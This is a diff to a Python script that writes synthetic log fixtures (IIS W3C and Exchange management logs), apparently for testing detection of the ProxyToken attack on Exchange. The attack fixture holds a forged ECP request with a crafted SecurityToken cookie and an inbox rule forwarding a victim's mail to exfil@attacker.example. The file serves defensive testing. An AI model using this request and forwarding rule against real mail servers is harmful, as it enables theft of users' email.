@@ -189,4 +189,60 @@ write("lateral-movement-account-creation/other-user.jsonl", [
     proc(at(0), W5, "C:\\Windows\\System32\\wbem\\WMIC.exe", 'WMIC /node:WORKSTATION6 process call create "cmd /c ipconfig"', PS, "THESHIRE\\alice"),
     account(at(60), W6, "helpdesk2", "bob", "THESHIRE"),
 ])
+
+# ------------------------------------------------------------------ ProxyToken
+# IIS W3C logs of the Exchange front end (the columns IIS writes by default, plus the cookie)
+# next to the MSExchange Management log. A fixture folder holds both; the replay reads each file
+# in its own format.
+X = "EXCH02.contoso.local"
+W3C_FIELDS = ("date time s-computername s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username "
+              "c-ip cs(User-Agent) cs(Cookie) sc-status sc-substatus sc-win32-status time-taken")
+UA = "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"
+
+
+def w3c(name, lines):
+    path = os.path.join(ROOT, name)
+    os.makedirs(os.path.dirname(path), exist_ok=True)
+    with open(path, "w", encoding="utf-8", newline="\r\n") as f:
+        f.write("#Software: Microsoft Internet Information Services 10.0\n")
+        f.write(f"#Date: {T0.strftime('%Y-%m-%d %H:%M:%S')}\n")
+        f.write(f"#Fields: {W3C_FIELDS}\n")
+        for line in lines:
+            f.write(line + "\n")
+
+
+def request(t, method, stem, query="-", user="-", cookie="-", status=200, client="203.0.113.7", ua=UA):
+    return " ".join([t.strftime("%Y-%m-%d"), t.strftime("%H:%M:%S"), "EXCH02", "10.0.4.12", method,
+                     stem, query, "443", user, client, ua, cookie, str(status), "0", "0", "31"])
+
+
+def web_noise(n, start=0):
+    out = []
+    for i in range(n):
+        t = at(start + i * 7)
+        out.append(request(t, "GET", "/owa/", user="CONTOSO\\jdoe", client="10.0.9.21"))
+        out.append(request(t, "POST", "/ecp/RulesEditor/InboxRules.svc/GetList",
+                           "msExchEcpCanary=Zq1", "CONTOSO\\jdoe", "msExchEcpCanary=Zq1;+X-OWA-JS=1",
+                           client="10.0.9.21"))
+    return out
+
+
+TOKEN = "SecurityToken=x;+msExchEcpCanary=aNXh"
+attack = request(at(120), "POST", "/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject",
+                 "msExchEcpCanary=aNXh", cookie=TOKEN, status=200, client="198.51.100.23",
+                 ua="python-requests/2.26.0")
+rule = cmdlet(at(121.4), X, "New-InboxRule, parameters -Mailbox \"contoso.com/Users/victim\" "
+              "-Name \".\" -ForwardTo \"exfil@attacker.example\" -StopProcessingRules \"True\"")
+w3c("proxytoken/exploit/u_ex261102.log", web_noise(8) + [attack])
+write("proxytoken/exploit/exchange.jsonl", noise(X, 4) + [rule])
+# An administrator sets forwarding in the Exchange shell; users edit their own rules in ECP.
+w3c("proxytoken/admin-forwarding/u_ex261102.log", web_noise(8))
+write("proxytoken/admin-forwarding/exchange.jsonl", noise(X, 4) + [
+    cmdlet(at(200), X, "Set-Mailbox, parameters -Identity \"contoso.com/Users/ceo\" "
+           "-ForwardingSmtpAddress \"smtp:assistant@contoso.com\""),
+    cmdlet(at(260), X, "New-InboxRule, parameters -Mailbox \"contoso.com/Users/jdoe\" "
+           "-Name \"Newsletters\" -MoveToFolder \"jdoe:\\Newsletters\""),
+])
+# The forged request alone: the server was probed, no rule was created (yet).
+w3c("proxytoken/request-only/u_ex261102.log", web_noise(4) + [attack])
 print("fixtures written under", os.path.relpath(ROOT))
